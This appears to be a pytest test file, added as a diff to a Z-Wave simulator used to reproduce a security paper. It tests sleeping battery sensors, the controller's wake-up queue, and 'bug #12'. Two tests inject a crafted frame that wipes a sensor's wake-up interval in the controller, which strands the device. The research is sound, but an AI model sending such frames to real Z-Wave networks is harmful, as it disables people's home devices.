@@ -1,0 +1,125 @@
+"""Tests for sleeping devices, the wake-up queue, and bug #12's impact."""
+
+import pytest
+
+from repro.simulator.battery import BatterySensor, WakeupQueue
+from repro.simulator.memory import NodeRecord
+from repro.simulator.testbed import build_sut
+from repro.zwave.application import ApplicationPayload
+from repro.zwave.frame import ZWaveFrame
+
+SENSOR_ID = 7
+
+
+@pytest.fixture
+def setting():
+    sut = build_sut("D1", seed=30, traffic=False)
+    sensor = BatterySensor(
+        "battery-sensor",
+        sut.profile.home_id,
+        SENSOR_ID,
+        sut.clock,
+        sut.medium,
+        position=(6.0, 6.0),
+        wakeup_interval=600.0,
+    )
+    sut.controller.nvm.add(
+        NodeRecord(node_id=SENSOR_ID, generic=0x20, wakeup_interval=600, name="sensor")
+    )
+    queue = WakeupQueue(sut.controller)
+    return sut, sensor, queue
+
+
+class TestSleepCycle:
+    def test_born_asleep(self, setting):
+        sut, sensor, _ = setting
+        assert not sensor.awake
+
+    def test_sleeping_radio_misses_frames(self, setting):
+        sut, sensor, _ = setting
+        frame = ZWaveFrame(
+            home_id=sut.profile.home_id, src=1, dst=SENSOR_ID, payload=b"\x20\x02"
+        )
+        sut.medium.transmit(sut.profile.idx, frame.encode(), 100.0)
+        sut.clock.advance(1.0)
+        assert sensor.commands_received == []
+
+    def test_wakes_on_interval_and_notifies(self, setting):
+        sut, sensor, _ = setting
+        sut.dongle.clear_captures()
+        sut.clock.advance(601.0)
+        assert sensor.awake
+        assert sensor.wakeups == 1
+        notifications = [
+            c.frame
+            for c in sut.dongle.captures()
+            if c.frame and c.frame.src == SENSOR_ID and c.frame.payload[:2] == b"\x84\x07"
+        ]
+        assert notifications
+
+    def test_sleeps_again_after_window(self, setting):
+        sut, sensor, _ = setting
+        sut.clock.advance(601.0)
+        assert sensor.awake
+        sut.clock.advance(15.0)
+        assert not sensor.awake
+
+    def test_interval_set_command(self, setting):
+        sut, sensor, queue = setting
+        queue.queue_command(
+            SENSOR_ID, ApplicationPayload(0x84, 0x04, bytes([0x00, 0x01, 0x2C, 0x01]))
+        )
+        sut.clock.advance(601.0)
+        assert sensor.wakeup_interval == 300.0
+
+
+class TestWakeupQueue:
+    def test_commands_delivered_on_wakeup(self, setting):
+        sut, sensor, queue = setting
+        assert queue.queue_command(SENSOR_ID, ApplicationPayload(0x20, 0x01, b"\xff"))
+        assert queue.pending_for(SENSOR_ID) == 1
+        sut.clock.advance(601.0)
+        assert queue.delivered == 1
+        assert queue.pending_for(SENSOR_ID) == 0
+        assert any(cmd[:2] == b"\x20\x01" for cmd in sensor.commands_received)
+
+    def test_queue_rejects_unknown_node(self, setting):
+        _, _, queue = setting
+        assert not queue.queue_command(99, ApplicationPayload(0x20, 0x01, b"\xff"))
+        assert queue.rejected == 1
+
+
+class TestBug12Impact:
+    """The concrete meaning of bug #12's "Infinite" duration."""
+
+    def test_wakeup_wipe_strands_the_device(self, setting):
+        sut, sensor, queue = setting
+        # The attacker wipes the sensor's wake-up interval (bug #12).
+        attack = ZWaveFrame(
+            home_id=sut.profile.home_id, src=0x0F, dst=1,
+            payload=bytes([0x01, 0x0D, SENSOR_ID, 0x00]),
+        )
+        sut.dongle.inject(attack)
+        sut.clock.advance(0.2)
+        assert sut.controller.nvm.get(SENSOR_ID).wakeup_interval is None
+        # The controller can no longer schedule anything for the sensor.
+        assert not queue.queue_command(SENSOR_ID, ApplicationPayload(0x20, 0x02))
+        # The device still wakes — but nothing is ever waiting for it.
+        sut.clock.advance(700.0)
+        assert sensor.wakeups >= 1
+        assert queue.delivered == 0
+
+    def test_manual_intervention_restores_service(self, setting):
+        sut, sensor, queue = setting
+        attack = ZWaveFrame(
+            home_id=sut.profile.home_id, src=0x0F, dst=1,
+            payload=bytes([0x01, 0x0D, SENSOR_ID, 0x00]),
+        )
+        sut.dongle.inject(attack)
+        sut.clock.advance(0.2)
+        # The paper: "requiring manual intervention" — the operator
+        # re-enters the interval.
+        sut.controller.nvm.update(SENSOR_ID, wakeup_interval=600)
+        assert queue.queue_command(SENSOR_ID, ApplicationPayload(0x20, 0x02))
+        sut.clock.advance(601.0)
+        assert queue.delivered == 1
